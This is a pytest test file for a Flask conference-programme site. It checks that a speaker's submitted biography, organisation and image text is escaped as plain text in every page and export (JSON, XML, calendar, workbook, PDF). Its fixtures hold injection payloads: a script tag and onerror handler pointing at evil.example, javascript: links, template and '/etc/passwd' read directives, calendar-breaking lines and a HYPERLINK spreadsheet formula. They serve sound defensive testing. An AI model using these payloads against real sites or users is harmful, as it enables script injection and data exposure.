"""What somebody types behind a private link is text on every page, in every file, sheet, calendar and mail."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient
from lxml import etree, html
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.factories import SLUG
from tests.people import Insider, sign_in
from tests.programme.desk_pages import DESK
from tests.programme.own_pages import fair_with_speaker, hand_in, her_row, page_of_hers, release_again, save

SCRIPT = "\"><script src=//evil.example></script><img src=x onerror=alert(1)>'</title></style>"
BIOGRAPHY = f"""{SCRIPT}

[hier](javascript:alert(1)) ![Bild](https://evil.example/x.png) <a href="javascript:alert(2)">da</a> {{{{ 7*7 }}}}
#panic() $x$ #read("/etc/passwd")
BEGIN:VEVENT
END:VCALENDAR"""
FORMULA = '=HYPERLINK("https://evil.example";"hier")' + SCRIPT
PAGES = ("vortragende", "vortragende/canary-vogel", "programm", "programm/CANARY", "version/1", "suche?q=Vogel", "")
OFFICE = ("vortragende", "vortragende/canary-vogel", "CANARY", "veroeffentlichen", "tafel")


@pytest.fixture
def page(app: Flask, client: FlaskClient) -> str:
    """She has typed all of it, and it is released."""
    fair_with_speaker(app)
    page = page_of_hers(app)
    answer = save(client, page, 1, organisation=FORMULA, biography_de=BIOGRAPHY, biography_en=BIOGRAPHY, agrees="y")
    assert answer.status_code == 303
    assert hand_in(client, page, her_row(app).version, alt_de=SCRIPT, alt_en=SCRIPT).status_code == 303
    release_again(app)
    return page


def acting(markup: str) -> Iterator[str]:
    """Whatever of a page would do something that no page of ours does."""
    for element in html.fromstring(markup).iter(etree.Element):
        said = {name: value.strip().lower() for name, value in element.attrib.items()}
        source = said.get("src", "")
        is_ours = not source or (source[0] == "/" and source[1:2] != "/")
        is_foreign = element.tag in ("img", "script", "iframe") and not is_ours
        is_inline = element.tag == "script" and not source and not said.get("type", "").endswith("json")
        if is_foreign or is_inline or any(name.startswith("on") for name in said):
            yield etree.tostring(element, encoding="unicode")[:200]
        yield from (
            value for name, value in said.items() if name in ("href", "action") and value.startswith("javascript")
        )


def test_no_public_page_does_what_it_says(client: FlaskClient, page: str):
    paths = [f"{start}/{SLUG}/{path}" for path in PAGES for start in ("", "/en")]
    shown = {path: client.get(path).get_data(as_text=True) for path in (*paths, page)}

    assert {path: list(acting(markup)) for path, markup in shown.items() if list(acting(markup))} == {}
    assert [path for path, markup in shown.items() if "evil.example&gt;" in markup] != []


def test_no_page_of_the_office_does_what_it_says(app: Flask, page: str):
    office = sign_in(app)
    paths = [*(f"{DESK}/{path}" for path in OFFICE), DESK, f"/desk/{SLUG}/verlauf"]
    shown = {path: office.get(path) for path in paths}

    assert {path: answer.status_code for path, answer in shown.items() if answer.status_code != 200} == {}
    assert [path for path, answer in shown.items() if list(acting(answer.get_data(as_text=True)))] == []


def test_files_stay_whole_and_hold_it_as_text(client: FlaskClient, page: str):
    listed = json.loads(client.get(f"/{SLUG}/schedule.json").get_data())
    tree = etree.fromstring(client.get(f"/{SLUG}/schedule.xml").get_data())
    feed = client.get(f"/{SLUG}/kalender/{SLUG}-programm.ics").get_data(as_text=True)

    assert "evil.example" in json.dumps(listed)
    assert (tree.findall(".//script"), tree.findall(".//img")) == ([], [])
    assert (feed.count("\nBEGIN:VEVENT"), feed.count("\nEND:VCALENDAR")) == (2, 1)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(client: FlaskClient, page: str):
    book = load_workbook(io.BytesIO(client.get(f"/{SLUG}/programm.xlsx").get_data()))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert any("evil.example" in str(cell.value) for cell in cells)


def test_paper_shows_it_and_runs_nothing(app: Flask, client: FlaskClient, page: str):
    octets = client.get(f"/{SLUG}/programm.pdf").get_data()
    text = " ".join(one.extract_text() for one in PdfReader(io.BytesIO(octets)).pages)

    assert "evil.example" in text
    assert "root:" not in text
    assert b"/JavaScript" not in octets


def test_the_board_gets_it_as_words(app: Flask, page: str):
    office: Insider = sign_in(app)
    answer = office.get(f"{DESK}/tafel/daten")

    assert (answer.status_code, answer.mimetype) == (200, "application/json")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
